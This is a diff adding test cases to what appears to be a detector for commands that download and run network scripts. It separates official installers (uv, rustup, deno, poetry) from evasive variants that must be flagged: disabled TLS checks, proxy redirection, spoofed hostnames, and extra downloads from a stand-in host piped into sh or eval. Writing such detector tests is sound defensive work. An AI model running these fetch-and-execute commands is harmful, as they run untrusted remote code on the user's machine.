@@ -144,3 +144,51 @@ describe("nothing from the network runs in", () => {
     "curl https://x | cat a; sh a",
   ])("%s", (command) => expect(detected(command)).toBeUndefined());
 });
+
+describe("an installer at its makers' URL", () => {
+  test.each([
+    "curl -LsSf https://astral.sh/uv/install.sh | sh",
+    "curl -LsSf https://astral.sh/uv/0.12.5/install.sh | env UV_NO_MODIFY_PATH=1 sh",
+    "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y",
+    "wget -qO- https://astral.sh/uv/install.sh | sh",
+    "wget -q -O - https://deno.land/install.sh | sh",
+    "curl -sSfL https://raw.githubusercontent.com/golangci/golangci-lint/HEAD/install.sh | sh -s -- -b $(go env GOPATH)/bin v2.12.2",
+    "curl -sSL https://install.python-poetry.org | python3 -",
+    'powershell -ExecutionPolicy ByPass -c "irm https://astral.sh/uv/install.ps1 | iex"',
+  ])("may run: %s", (command) => expect(detected(command)).toBeUndefined());
+
+  test.each([
+    "curl http://astral.sh/uv/install.sh | sh",
+    "curl -k https://astral.sh/uv/install.sh | sh",
+    "curl -fsSLk https://astral.sh/uv/install.sh | sh",
+    "curl --insecure https://astral.sh/uv/install.sh | sh",
+    "curl -x https://x https://astral.sh/uv/install.sh | sh",
+    "curl --connect-to ::x https://astral.sh/uv/install.sh | sh",
+    "curl -K a https://astral.sh/uv/install.sh | sh",
+    "wget --no-check-certificate -qO- https://astral.sh/uv/install.sh | sh",
+    "wget -i- -qO- https://astral.sh/uv/install.sh | sh",
+    "curl https://astral.sh/uv/install.sh https://x | sh",
+    "curl https://astral.sh.x/uv/install.sh | sh",
+    "curl https://astral.sh@x/uv/install.sh | sh",
+    "curl https://x/astral.sh/uv/install.sh | sh",
+    "curl https://astral.sh/uv/../x/install.sh | sh",
+    "curl https://astral.sh/uv/install.sh?a=b | sh",
+    "curl $X https://astral.sh/uv/install.sh | sh",
+    "curl https://astral.sh/uv/install.sh | sed s/a/b/ | sh",
+    "curl https://x | curl https://astral.sh/uv/install.sh | sh",
+    "{ curl https://astral.sh/uv/install.sh; curl https://x; } | sh",
+    'curl https://astral.sh/uv/install.sh | sh -c "$(curl https://x)"',
+    "curl -s https://astral.sh/uv/install.sh | sh <(curl https://x)",
+    "curl -s https://astral.sh/uv/install.sh | sh < <(curl https://x)",
+    'curl https://astral.sh/uv/install.sh | eval "$(curl https://x)"',
+    "curl -o a https://astral.sh/uv/install.sh; sh a",
+    "curl https://raw.githubusercontent.com/x/golangci-lint/HEAD/install.sh | sh",
+    "curl https://codecov.io/bash | bash",
+    "curl() { command curl https://x; }; curl https://astral.sh/uv/install.sh | sh",
+    "function curl { echo a; }; curl https://astral.sh/uv/install.sh | sh",
+    "./curl https://astral.sh/uv/install.sh | sh",
+    "curl https://install.python-poetry.org | python3 $(curl https://x)",
+    "curl https://astral.sh/uv/install.sh | bash --rcfile <(curl https://x) -i",
+    "curl https://x | sh; curl https://astral.sh/uv/install.sh | sh",
+  ])("must not be changed: %s", (command) => expect(detected(command)).toBeDefined());
+});
